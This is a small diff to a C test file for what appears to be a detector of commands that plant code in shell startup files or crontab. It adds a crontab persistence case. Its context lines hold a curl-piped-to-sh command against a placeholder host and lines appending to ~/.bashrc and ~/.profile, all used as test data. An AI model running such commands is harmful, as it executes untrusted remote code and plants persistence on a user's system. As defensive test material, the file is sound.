@@ -200,6 +200,7 @@ TEST(what_start_up_files_get_is_code)
                      "code-shell:curl -s https://a.example.invalid | sh  ");
         expect_files("echo 'x y' | tee -a ~/.bashrc", "code-shell:x y  ");
         expect_files("cat >> ~/.profile <<END\nx y\nEND\n", "code-shell:x y\n ");
+        expect_files("echo '*/5 * * * * x y' | crontab -", "code-shell:x y  ");
         expect_files("echo 'x y' > notes.txt", "");
 }
 
